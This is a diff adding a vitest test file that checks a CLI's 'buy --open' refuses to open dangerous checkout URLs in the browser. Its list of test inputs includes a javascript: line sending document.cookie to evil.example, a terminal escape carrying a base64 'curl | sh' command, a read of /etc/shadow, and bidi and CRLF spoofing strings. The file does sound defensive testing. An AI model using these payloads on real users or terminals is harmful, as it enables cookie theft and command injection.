@@ -1,0 +1,92 @@
+// `buy --open` against a server whose checkout answers an address no browser should be given:
+// the system's opener is never started, and the refusal is one line on stderr, exit 1. Spawned,
+// as a person runs it: the opener is the real one (`open`'s xdg-open), and $BROWSER, where
+// xdg-open hands every address on a machine without a desktop, only writes down what it got.
+import { fakeBrowser } from '@profile-articles/test-utils/fake-browser';
+import { rewritingProxy } from '@profile-articles/test-utils/rewriting-proxy';
+import { afterEach, describe, expect, it } from 'vitest';
+import { useCliMock } from './helpers.js';
+
+const h = useCliMock();
+const linux = process.platform === 'linux';
+const closing: Array<() => Promise<void>> = [];
+afterEach(async () => {
+  for (const close of closing.splice(0)) await close();
+});
+
+/** The mock behind a proxy whose checkout answers `url` instead of the mock's page. */
+async function checkoutAnswering(url: string): Promise<string> {
+  const proxy = await rewritingProxy(h.server.url, (answer, asked) =>
+    asked.method === 'POST' && asked.path.endsWith('/credits/checkout')
+      ? { ...answer, body: { ...(answer.body as object), url } }
+      : undefined,
+  );
+  closing.push(proxy.close);
+  return proxy.url;
+}
+
+const HOSTILE: Array<[string, string]> = [
+  ['a local file', 'file:///etc/shadow'],
+  ['javascript:', 'javascript:fetch("https://evil.example/?"+document.cookie)'],
+  ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
+  ['plain http to another machine', 'http://pay.evil.example/checkout'],
+  ['plain http to a name that only looks like loopback', 'http://127.0.0.1.evil.example/checkout'],
+  ['another scheme', 'ssh://evil.example/'],
+  ['https holding an escape sequence', 'https://pay.example/\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'],
+  ['https holding a line break', 'https://pay.example/ok\r\nError: nothing happened'],
+  ['https holding a C1 control', 'https://pay.example/\u009b31m'],
+  ['https holding a bidirectional override', 'https://pay.example/\u202egnp.exe'],
+  ['not an address at all', '--help'],
+];
+
+describe.skipIf(!linux)('buy --open opens only https, or http on this machine', () => {
+  it('an https page reaches the browser (the fake sees what a real one would)', async () => {
+    const browser = fakeBrowser();
+    const page = 'https://pay.example/checkout/cs_1?amount=500';
+    const url = await checkoutAnswering(page);
+    const result = await h.cli(['buy', '500', '--open'], {
+      env: { PROFILE_ARTICLES_BASE_URL: url, ...browser.env },
+    });
+    expect(result.code).toBe(0);
+    expect(await browser.firstCall()).toBe(page);
+  });
+
+  it('the mock on this machine (plain http to 127.0.0.1) is opened too', async () => {
+    const browser = fakeBrowser();
+    const result = await h.cli(['buy', '500', '--open'], { env: browser.env });
+    expect(result.code).toBe(0);
+    expect(await browser.firstCall()).toMatch(/^http:\/\/127\.0\.0\.1:\d+\//);
+  });
+
+  for (const [what, page] of HOSTILE) {
+    it(`${what}: never opened, one line on stderr, exit 1`, async () => {
+      const browser = fakeBrowser();
+      const url = await checkoutAnswering(page);
+      const result = await h.cli(['buy', '500', '--open'], {
+        env: { PROFILE_ARTICLES_BASE_URL: url, ...browser.env },
+      });
+      expect(result.code).toBe(1);
+      expect(browser.calls()).toEqual([]);
+      expect(result.stdout).toBe('');
+      const lines = result.stderr.split('\n').filter(Boolean);
+      expect(lines).toHaveLength(1);
+      expect(lines[0]).toMatch(/^Error: Refused to open the payment page ".*": only https/);
+      // Shown made safe: no control character reaches the terminal.
+      expect(result.stderr.slice(0, -1)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
+    });
+  }
+
+  it('--json: the refusal is the one {"error"} line, stdout stays empty', async () => {
+    const browser = fakeBrowser();
+    const url = await checkoutAnswering('file:///etc/passwd');
+    const result = await h.cli(['buy', '500', '--open', '--json'], {
+      env: { PROFILE_ARTICLES_BASE_URL: url, ...browser.env },
+    });
+    expect(result.code).toBe(1);
+    expect(browser.calls()).toEqual([]);
+    expect(result.stdout).toBe('');
+    const lines = result.stderr.split('\n').filter(Boolean);
+    expect(lines).toHaveLength(1);
+    expect(JSON.parse(lines[0] ?? '').error).toMatchObject({ type: 'CliError', hint: null });
+  });
+});
